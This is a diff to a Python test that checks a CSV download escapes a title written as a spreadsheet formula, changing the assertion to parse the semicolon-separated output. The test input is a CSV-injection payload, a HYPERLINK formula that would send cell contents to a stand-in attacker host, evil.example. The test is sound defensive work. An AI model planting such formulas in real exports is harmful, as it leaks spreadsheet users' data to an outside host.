@@ -46,6 +46,8 @@ def test_a_csv_download_neutralises_a_title_that_is_a_formula():
 
     response, writer = csv_response("x.csv")
     writer.writerow(['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "-12,5"])
-    text = response.content.decode("utf-8-sig")
-    assert text.startswith("'=HYPERLINK(")
-    assert ";-12,5" in text
+    import csv
+    import io
+
+    cells = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert cells == ["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")", "-12,5"]
